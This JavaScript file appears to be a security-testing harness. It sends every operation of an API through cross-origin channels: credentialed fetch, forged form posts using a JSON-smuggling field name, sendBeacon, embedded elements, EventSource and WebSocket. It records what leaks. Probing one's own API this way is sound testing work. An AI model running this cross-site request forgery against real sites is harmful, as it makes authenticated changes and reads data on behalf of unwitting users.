// What a page of another origin can try at the API, of every operation: `attack` returns what it could read or learn.
// operations: [{method, path, body}]; `path` has its parameters filled in. open: paths for everybody. endless: answers that have no end.

const AT_ONCE = 8;

const settled = (element, good, bad) => new Promise((done) => {
  element.addEventListener(good, () => done(true), { once: true });
  element.addEventListener(bad, () => done(false), { once: true });
});

async function placed(element, good = "load", bad = "error") {
  const found = settled(element, good, bad);
  document.body.append(element);
  const result = await found;
  return [result, element];
}

function made(tag, fields) {
  return Object.assign(document.createElement(tag), fields);
}

async function byFetch({ method, path, body }, api, learnt) {
  for (const mode of ["cors", "no-cors"]) {
    for (const credentials of ["include", "omit"]) {
      for (const type of ["application/json", "text/plain"]) {
        if (mode === "no-cors" && !["GET", "POST"].includes(method)) continue;
        const sent = ["GET", "HEAD"].includes(method) ? {} : { body: JSON.stringify(body), headers: { "content-type": type } };
        const stop = new AbortController();
        const answer = await fetch(api + path, { method, mode, credentials, signal: stop.signal, ...sent }).catch(() => null);
        stop.abort(); // what does not end holds one of the few connections
        if (answer && answer.type !== "opaque") learnt.push(`fetch ${mode} ${credentials}: ${method} ${path}: ${answer.status}`);
      }
    }
  }
}

async function byForm({ method, path, body }, api) {
  const types = method === "GET" ? ["text/plain"] : ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
  for (const enctype of types) {
    const frame = made("iframe", { name: `frame-${Math.random()}` });
    document.body.append(frame);
    const form = made("form", { method: method === "GET" ? "get" : "post", action: api + path, target: frame.name, enctype });
    form.append(made("input", { name: `{"_method":"${method}","x":"`, value: `"}${JSON.stringify(body)}` }));
    document.body.append(form);
    const answered = settled(frame, "load", "error");
    form.submit();
    await answered;
    form.remove();
    frame.remove();
  }
  navigator.sendBeacon(api + path, new Blob([JSON.stringify(body)], { type: "text/plain" }));
}

async function byEmbedding({ path }, api, isPublic, learnt) {
  const url = api + path;
  const tried = [
    ["img", { src: url }], ["script", { src: url }], ["link", { rel: "stylesheet", href: url }],
    ["video", { src: url }, "loadeddata"],
  ];
  for (const [tag, fields, good] of tried) {
    const [loaded, element] = await placed(made(tag, fields), good);
    if (loaded && !isPublic) learnt.push(`${tag}: GET ${path} loaded`);
    element.remove();
  }
  const [, frame] = await placed(made("iframe", { src: url }));
  try {
    if (frame.contentDocument) learnt.push(`iframe: GET ${path}: ${frame.contentDocument.body.textContent.slice(0, 80)}`);
  } catch { /* a document of another origin */ }
  frame.remove();
}

async function byStream({ path }, api, learnt) {
  const source = new EventSource(api + path, { withCredentials: true });
  if (await settled(source, "open", "error")) learnt.push(`EventSource: ${path} opened`);
  source.close();
  const link = new WebSocket(api.replace("http", "ws") + path);
  if (await settled(link, "open", "error")) learnt.push(`WebSocket: ${path} opened`);
  link.close();
}

async function attack({ api, operations, open, endless }) {
  const learnt = [];
  window.addEventListener("message", (event) => { if (event.origin === api) learnt.push(`message: ${JSON.stringify(event.data)}`); });
  window.addEventListener("error", (event) => event.preventDefault());
  async function tried(operation) {
    await byFetch(operation, api, learnt);
    if (!endless.includes(operation.path)) await byForm(operation, api);
    if (operation.method !== "GET") return;
    if (!endless.includes(operation.path)) await byEmbedding(operation, api, open.includes(operation.path), learnt);
    await byStream(operation, api, learnt);
  }
  const left = [...operations];
  async function worked() {
    while (left.length) await tried(left.shift());
  }
  await Promise.all(Array.from({ length: AT_ONCE }, worked));
  return learnt;
}
